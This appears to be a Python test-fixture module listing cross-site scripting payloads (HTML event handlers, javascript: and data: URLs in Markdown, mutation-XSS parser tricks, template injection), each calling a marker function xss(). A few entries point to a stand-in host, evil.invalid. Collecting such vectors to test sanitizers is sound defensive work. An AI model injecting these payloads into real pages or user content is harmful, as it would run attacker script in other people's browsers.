"""Texts that try to run a script, by the way they try it; each would call `xss()`."""

ELEMENTS = (
    "<script>xss()</script>",
    "<ScRiPt src=data:text/javascript,xss()></sCrIpT>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'//",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<body onload=xss()>",
    "<form action=javascript:xss()><button>press</button></form>",
    "<a href=javascript:xss()>press</a>",
    "<base href=javascript:/xss()//>",
    "<link rel=stylesheet href=javascript:xss()>",
    "<meta http-equiv=refresh content=0;url=javascript:xss()>",
    "<template><script>xss()</script></template>",
)
MARKDOWN = (
    "[press](javascript:xss())",
    "[press](JaVaScRiPt:xss())",
    "[press](java\tscript:xss())",
    "[press](data:text/html,<script>xss()</script>)",
    "[press](vbscript:xss())",
    "[press](//evil.invalid/xss.js)",
    "![image](javascript:xss())",
    '![image](x"onerror="xss())',
    "<javascript:xss()>",
    "[press]: javascript:xss()\n\n[press]",
    '```js"onmouseover="xss()\n<script>xss()</script>\n```',
    "`<img src=x onerror=xss()>`",
    "| <img src=x onerror=xss()> |\n|---|\n| [press](javascript:xss()) |",
    'https://evil.invalid/"onmouseover="xss()',
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    '<p style="background:url(javascript:xss())">press',
    "&lt;img src=x onerror=xss()&gt;",
    "\\<img src=x onerror=xss()\\>",
)
TEMPLATES = (
    "${xss()}",
    "{{constructor.constructor('xss()')()}}",
    "{% include 'x' %}<img src=x onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "'-xss()-'",
    "</script><script>xss()</script>",
    "<!--lit-part--><img src=x onerror=xss()>",
)
PAYLOADS = ELEMENTS + MARKDOWN + MUTATIONS + TEMPLATES
#: Those that fit where something is named.
NAMES = tuple(text for text in ELEMENTS + TEMPLATES if len(text) <= 80)
